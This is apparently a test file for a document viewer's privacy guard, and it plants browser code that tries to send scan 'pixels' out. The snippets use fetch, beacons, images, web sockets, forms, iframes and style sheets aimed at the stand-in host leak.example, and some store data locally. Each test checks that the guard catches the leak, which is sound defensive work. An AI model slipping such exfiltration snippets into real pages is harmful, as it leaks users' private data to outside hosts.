// Planted leaks: each way out that a careless or hostile change might take makes the privacy check fail.

import { expect, expectNothingLeaks, test, type Session } from '../support/privacy.ts';

/** A way out, as code that runs in the page, or in the engine's worker. */
interface Leak {
  name: string;
  where: 'page' | 'worker';
  code: string;
}

const ELSEWHERE = 'http://leak.example';

const LEAKS: Leak[] = [
  { name: 'fetch to another origin', where: 'page', code: `fetch('${ELSEWHERE}/?pixels=1', { mode: 'no-cors' }).catch(() => 0)` },
  { name: 'fetch to a path of its own origin that is not listed', where: 'page', code: `fetch('/leak?pixels=1').catch(() => 0)` },
  { name: 'pixels in the query of a listed file', where: 'page', code: `fetch('/index.html?leak=1').catch(() => 0)` },
  { name: 'a POST to a listed file', where: 'page', code: `fetch('/index.html', { method: 'POST', body: 'pixels' }).catch(() => 0)` },
  { name: 'a beacon to another origin', where: 'page', code: `navigator.sendBeacon('${ELSEWHERE}/beacon', 'pixels')` },
  { name: 'a beacon to its own origin', where: 'page', code: `navigator.sendBeacon('/leak', 'pixels')` },
  { name: 'an image of another origin', where: 'page', code: `new Image().src = '${ELSEWHERE}/dot.png?pixels=1'` },
  { name: 'an image of its own origin', where: 'page', code: `new Image().src = '/leak.png?pixels=1'` },
  { name: 'a web socket to another origin', where: 'page', code: `try { new WebSocket('ws://leak.example/socket') } catch {}` },
  { name: 'a web socket to its own origin', where: 'page', code: `try { new WebSocket(location.origin.replace('http', 'ws') + '/leak') } catch {}` },
  { name: 'an event source', where: 'page', code: `new EventSource('${ELSEWHERE}/events')` },
  {
    name: 'a form',
    where: 'page',
    code: `const form = document.createElement('form'); form.action = '${ELSEWHERE}/form'; form.method = 'post'; form.target = 'hidden';
           document.body.append(form); form.submit()`,
  },
  { name: 'an embedded page', where: 'page', code: `const frame = document.createElement('iframe'); frame.src = '${ELSEWHERE}/frame'; document.body.append(frame)` },
  { name: 'a prefetch', where: 'page', code: `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${ELSEWHERE}/next'; document.head.append(link)` },
  {
    name: 'a style sheet',
    where: 'page',
    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background-image: url(${ELSEWHERE}/ground.png) }'); document.adoptedStyleSheets.push(sheet)`,
  },
  { name: 'a new window', where: 'page', code: `window.open('${ELSEWHERE}/window?pixels=1')` },
  { name: 'fetch to another origin from the worker', where: 'worker', code: `fetch('${ELSEWHERE}/?pixels=1', { mode: 'no-cors' }).catch(() => 0)` },
  { name: 'fetch to its own origin from the worker', where: 'worker', code: `fetch('/leak?pixels=1').catch(() => 0)` },
  { name: 'a web socket from the worker', where: 'worker', code: `try { new WebSocket('ws://leak.example/socket') } catch {}` },
];

/** Leaks that stay on the computer: kept where a later visitor could read them. */
const KEPT: Leak[] = [
  { name: 'pixels in localStorage', where: 'page', code: `localStorage.setItem('scan', 'x'.repeat(5000))` },
  { name: 'pixels in a database', where: 'page', code: `indexedDB.open('scans')` },
  { name: 'pixels in a cache', where: 'page', code: `caches.open('scans').then((cache) => cache.put('/scan', new Response('pixels')))` },
  {
    name: 'pixels in a file of the origin',
    where: 'page',
    code: `navigator.storage.getDirectory().then((folder) => folder.getFileHandle('scan.png', { create: true }))`,
  },
  { name: 'a cookie', where: 'page', code: `document.cookie = 'scan=pixels'` },
];

/** Opens the page with the leak in it: run in the page's own world, or added to the worker's script as it is served. */
async function visit(session: Session, leak: Leak): Promise<void> {
  if (leak.where === 'worker') {
    await session.watchWorkers(leak.code);
  }
  // The leak is what is watched here: starting the engine would only take time.
  await session.page.route('**/*.wasm', (route) => route.abort());
  await session.viewer.goto();
  if (leak.where === 'page') {
    await session.page.evaluate(`(() => { ${leak.code} })()`);
  } else {
    await expect.poll(() => session.page.workers().some((worker) => worker.url().endsWith('/reader.js'))).toBe(true);
  }
}

for (const leak of LEAKS) {
  test(`noticed: ${leak.name}`, async ({ startSession }) => {
    const session = await startSession();
    await visit(session, leak);
    await expect(expectNothingLeaks(session)).rejects.toThrow(/(tried to send|the policy refused): .*(leak|POST|CONNECT)/);
  });
}

for (const leak of KEPT) {
  test(`noticed: ${leak.name}`, async ({ startSession }) => {
    const session = await startSession();
    await visit(session, leak);
    await expect(expectNothingLeaks(session)).rejects.toThrow(/kept .*(characters in localStorage|scan)/);
  });
}

for (const leak of LEAKS) {
  test(`noticed even without the policy: ${leak.name}`, async ({ startSession }) => {
    const session = await startSession({ policy: false });
    await visit(session, leak);
    await expect(expectNothingLeaks(session)).rejects.toThrow(/tried to send: .*(leak|POST|CONNECT)/);
  });
}

test('a session without a leak passes the same check', async ({ startSession }) => {
  const session = await startSession();
  await session.viewer.goto();
  await session.viewer.readSample();
  await expectNothingLeaks(session);
});

test('a refusal turns the shield red and is told in its panel', async ({ startSession }) => {
  const session = await startSession();
  await session.viewer.goto();
  await session.page.evaluate(`fetch('${ELSEWHERE}/?pixels=1').catch(() => 0)`);
  await expect(session.viewer.shield).toHaveAttribute('data-refused', /^[1-9]/);
  await session.viewer.shield.click();
  await expect(session.page.getByTestId('privacy-panel')).toContainText('leak.example');
});

for (const script of ['reader', 'metrics'] as const) {
  test(`a refusal inside the ${script} worker turns the shield red and is told in its panel`, async ({ startSession }) => {
    const session = await startSession();
    const code = `if (location.pathname.endsWith('/${script}.js')) fetch('${ELSEWHERE}/?pixels=1', { mode: 'no-cors' }).catch(() => 0)`;
    await visit(session, { name: script, where: 'worker', code });
    await expect(session.viewer.shield).toHaveAttribute('data-refused', /^[1-9]/);
    await expect(session.viewer.shield).toHaveClass(/\bbad\b/);
    await session.viewer.shield.click();
    await expect(session.page.getByTestId('privacy-panel')).toContainText(/leak\.example.*in a worker/);
  });
}

test('a request that a worker makes to its own origin, which the policy allows, is told too', async ({ startSession }) => {
  const session = await startSession();
  await visit(session, { name: 'own origin', where: 'worker', code: `fetch('/leak?pixels=1').catch(() => 0)` });
  await expect(session.viewer.shield).toHaveAttribute('data-requests', /^[1-9]/);
  await expect(session.viewer.shield).toHaveClass(/\bbad\b/);
});
